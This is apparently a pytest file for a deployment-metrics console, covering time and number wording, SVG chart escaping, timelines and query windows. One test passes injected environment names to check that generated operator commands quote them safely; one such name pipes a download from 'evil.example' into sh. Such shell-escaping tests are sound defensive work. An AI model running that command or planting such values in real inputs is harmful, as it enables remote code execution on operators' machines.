"""Words, charts and windows of the console, apart from a server."""

from __future__ import annotations

import re
import shlex
import sys
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING

import pytest
from starlette.datastructures import QueryParams

from api.console import gaps, timeline
from api.console.asking import PageQuestion, read_query
from api.console.overview import Overview, wanted
from api.console.running import CELLS, Matrix
from api.register_commands import environment_register
from domain.errors import RefusedError
from exporters import charts, wording
from exporters.charts import Series
from projections.answer import Answer, Proof
from tests.projections.story import viewing
from tests.projections.telling import Story, commit, deployed

if TYPE_CHECKING:
    from pathlib import Path

NOON = datetime(2026, 3, 31, 12, 34, 56, tzinfo=UTC)


@pytest.mark.parametrize(
    ("seconds", "words"),
    [
        (None, "–"),  # noqa: RUF001 - a dash for nothing
        (0, "0 s"),
        (59.6, "1 min"),
        (61, "1 min 1 s"),
        (3599.9, "1 h"),
        (7140, "1 h 59 min"),
        (7199.9, "2 h"),
        (86_399, "24 h"),
        (90_000, "1 d 1 h"),
        (-60, "−1 min"),  # noqa: RUF001 - a minus sign
    ],
)
def test_a_length_of_time_has_two_units_at_most(seconds: float | None, words: str) -> None:
    """And never sixty of the lesser one."""
    assert wording.duration(seconds) == words


def test_numbers_are_short() -> None:
    """Thousands stand apart, and decimals only where they say something."""
    assert [wording.number(one) for one in (None, 0, 12.0, 1234567, 0.123, 12.34)] == [
        "–", "0", "12", "1 234 567", "0.12", "12.3",  # noqa: RUF001 - a narrow space, a dash
    ]  # fmt: skip


def test_little_is_not_told_as_nothing_nor_nearly_all_as_all() -> None:
    """Whoever reads 0 or 100 % believes that there was none, or no other."""
    assert [wording.number(one) for one in (0.002, 0.0049, 0.005, 0.0)] == [
        "< 0.01", "< 0.01", "0.01", "0",
    ]  # fmt: skip
    rates = (0, 0.0004, 0.0005, 0.5, 0.9994, 0.9996, 1)
    assert [wording.percent(one) for one in rates] == [
        "0.0 %", "< 0.1 %", "0.1 %", "50.0 %", "99.9 %", "> 99.9 %", "100.0 %",
    ]  # fmt: skip


def test_a_chart_of_rates_says_what_the_table_beside_it_says(tmp_path: Path) -> None:
    """One failure of three hundred is no rate of 0 %."""
    story = Story()
    deployed(story, "d1", "03-02T10:00", "v1", commit=commit("a"))
    asked = PageQuestion(days="30")
    with viewing(story, tmp_path, **asked.chosen(NOON)) as view:
        tables = view.answer(wanted(asked))
        proof = Proof("o", view.snapshot.size, "", "", view.parameters, (), "")
    page = Overview(Answer(proof, (), tables))
    page.steps[0]["change_fail_rate"], page.steps[1]["change_fail_rate"] = 1 / 300, 299 / 300
    chart = page.charts()[2]
    assert [row[1] for row in chart.rows[:2]] == ["0.3 %", "99.7 %"]
    assert [": change fail rate 0.3 %" in chart.drawing, "rate 0%" in chart.drawing] == [
        True,
        False,
    ]


def test_a_chart_draws_and_does_nothing_else() -> None:
    """No style, script, address or id of the library's; names are escaped, marks have a name."""
    steps = ("1 Mar", "<2 & 3>")
    for drawn in (
        charts.bars("A <b> & c", steps, (Series("<i>", "planned", (3, None)),)),
        charts.lines("A <b> & c", steps, (Series("<i>", "first", (3, 1.5)),), "{:.1f}".format),
    ):
        assert 'role="img" aria-label="A &lt;b&gt; &amp; c"' in drawn
        assert re.findall(r"<(?:script|style|b>|i>|desc|!--)|\s(?:id|style|on\w+)=", drawn) == []
        assert re.findall(r"https?://(?!www\.w3\.org/)", drawn) == []
        assert "<title>1 Mar: &lt;i&gt; 3" in drawn


def test_the_library_of_charts_stays_out_of_imports() -> None:
    """Its hook would be asked for every module of the process."""
    assert [one for one in sys.meta_path if type(one).__module__.startswith("pygal")] == []


def test_what_was_drawn_is_not_drawn_again(tmp_path: Path) -> None:
    """A dashboard asks for the same page every second; other numbers are another chart."""
    story = Story()
    deployed(story, "d1", "03-02T10:00", "v1", commit=commit("a"))
    deployed(story, "d2", "03-23T10:00", "v2", commit=commit("b"))
    pages = []
    for days in ("30", "30", "90"):
        asked = PageQuestion(days=days)
        with viewing(story, tmp_path, **asked.chosen(NOON)) as view:
            tables = view.answer(wanted(asked))
            proof = Proof("o", view.snapshot.size, "", "", view.parameters, (), "")
        pages.append(Overview(Answer(proof, (), tables)))
    drawings = [[chart.drawing for chart in page.charts()] for page in pages]
    courses = [[card.course for card in page.cards()] for page in pages]
    assert len(drawings[0]) == 3
    assert any(courses[0])
    for first, again, other in zip(*drawings, strict=True):
        assert first is again
        assert first != other
    assert all(first is again for first, again, _ in zip(*courses, strict=True))


def test_a_course_needs_two_values() -> None:
    """One or none draws nothing."""
    assert charts.spark("x", (None, 1.0, None)) is None
    assert charts.spark("x", (1.0, None, 2.0)) is not None


@pytest.mark.parametrize("most", [0, 1, 5, 6, 99, 12_345])
def test_an_axis_of_counts_has_whole_numbers(most: int) -> None:
    """A few of them, up to the greatest."""
    drawn = charts.bars("x", ("a",), (Series("n", "planned", (most,)),))
    labels = re.findall(r'class="axis y.*?class="axis x', drawn, re.DOTALL)
    numbers = [int(text) for text in re.findall(r">(\d+)</text>", labels[0])]
    assert numbers[0] == 0
    assert numbers[-1] >= most
    assert len(numbers) <= 7


def test_deployments_lie_along_time_by_line() -> None:
    """A failed one is told apart, lanes beyond those that have room are counted, and time ends."""
    rows = [
        {"service": f"s{at:02d}", "environment": "production", "kind": "planned",
         "deployment": f"d{at}", "finished_at": NOON + timedelta(hours=at),
         "outcome": "failure" if at == 1 else "success"}
        for at in range(30)
    ]  # fmt: skip
    found = timeline.along(rows)
    assert found is not None
    assert list(found.looks) == ["planned", "failure"]
    assert found.left_out == 6
    assert "<title>d1: failure, 2026-03-31 13:34 UTC</title>" in found.drawing
    assert timeline.along([{**rows[0], "finished_at": None}]) is None
    last = datetime(9999, 12, 31, 23, 30, tzinfo=UTC)
    found = timeline.along([{**rows[0], "finished_at": last}])
    assert found is not None
    assert "9999-12-31 23:30 UTC" in found.drawing


@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "$(id)", "--data=/tmp/theirs"])
def test_what_settles_a_gap_says_an_environments_name_and_nothing_else(name: str) -> None:
    """It is the command of operators: the name, which anybody may have sent, is one word of it."""
    (gap, other) = gaps.told(
        {"gap": one, "name": name, "items": 2} for one in (gaps.TIER, gaps.INCIDENTS)
    )
    assert other.run == gap.run
    words = shlex.split(gap.run or "")
    assert words[:3] == ["pipeledger-server", "environment", "register"]
    filled = [word.replace("TIER", "production") for word in words[3:]]
    said = environment_register.make_context("register", filled).params
    assert (said["environment"], said["tier"]) == (name, "production")
    (unnamed,) = gaps.told([{"gap": gaps.TIER, "name": None, "items": 2}])
    assert unnamed.run is None


def test_production_is_the_first_column_of_what_runs() -> None:
    """Then the other tiers, and environments without one by name; the rest is counted."""
    names = {"dev": "development", "prod": "production", "b": None, "a": None, "stage": "staging",
             "c": None, "d": None, "e": None}  # fmt: skip
    rows = [{"service": "s", "environment": name, "tier": tier} for name, tier in names.items()]
    found = Matrix(rows)
    assert found.environments == ["prod", "stage", "dev", "a", "b", "c"]
    assert found.left_out == 2
    assert found.cells["s", "prod"]["tier"] == "production"


def test_more_lines_than_the_table_is_made_from_are_told_and_no_service_is_halved() -> None:
    """An empty cell says that nothing runs there."""
    rows = [
        {"service": f"s{at // 3:03d}", "environment": f"e{at % 3}", "tier": None}
        for at in range(CELLS + 1)
    ]
    whole, cut = Matrix(rows[:-1]), Matrix(rows)
    assert (whole.is_cut, len(whole.cells)) == (False, CELLS)
    assert (cut.is_cut, len(cut.services), len(cut.cells)) == (True, CELLS // 3, CELLS // 3 * 3)
    one = Matrix([row | {"service": "s", "environment": f"e{at}"} for at, row in enumerate(rows)])
    assert (one.is_cut, len(one.cells)) == (True, CELLS)


def test_a_picked_window_holds_what_was_reported_a_moment_ago() -> None:
    """It ends with this hour, and the one before it has the same length."""
    chosen = read_query(PageQuestion, QueryParams({"days": "30", "service": ""})).chosen(NOON)
    end = datetime(2026, 3, 31, 13, tzinfo=UTC)
    assert (chosen["window_from"], chosen["window_to"]) == (end - timedelta(days=30), end)
    assert (chosen["baseline_from"], chosen["baseline_to"]) == (
        end - timedelta(days=60), end - timedelta(days=30),
    )  # fmt: skip
    assert chosen["at"] == end


@pytest.mark.parametrize(
    ("begin", "end", "bucket"),
    [
        ("2026-03-01", "2026-04-01", "day"),
        ("2026-01-01", "2026-04-01", "week"),
        ("2024-01-01", "2026-04-01", "month"),
        ("1990-01-01", "2026-04-01", "none"),
    ],
)
def test_the_steps_of_a_course_fit_the_window(begin: str, end: str, bucket: str) -> None:
    """Days for a month, weeks for a quarter, months beyond."""
    assert (
        read_query(PageQuestion, QueryParams({"from": begin, "to": end})).chosen(NOON)["bucket"]
        == bucket
    )


def test_a_field_that_no_page_knows_is_named() -> None:
    """Rather than passed over."""
    with pytest.raises(RefusedError) as refused:
        read_query(PageQuestion, QueryParams({"color": "red"}))
    assert refused.value.place == "query color"
